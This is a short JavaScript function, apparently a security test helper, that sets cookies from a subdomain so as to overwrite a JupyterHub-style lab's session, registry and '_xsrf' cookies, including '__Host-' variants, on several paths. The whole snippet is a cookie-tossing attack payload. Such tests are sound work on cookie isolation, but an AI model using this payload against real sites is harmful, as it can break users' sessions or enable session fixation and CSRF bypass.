// Overwrite the lab's cookies from a host below it, on every path.
({ lab }) => {
  const domain = new URL(lab).hostname;
  const names = ["spbe-registry", "spbe-registry-abcdefgh", "service-apps", "jupyterhub-hub-login", "_xsrf"];
  const paths = ["/", "/hub/", "/services/registry/", "/services/registry/api/", "/services/apps/"];
  for (const name of names.flatMap((plain) => [plain, `__Host-${plain}`])) {
    for (const path of paths) document.cookie = `${name}=tertukar; domain=${domain}; path=${path}`;
  }
}
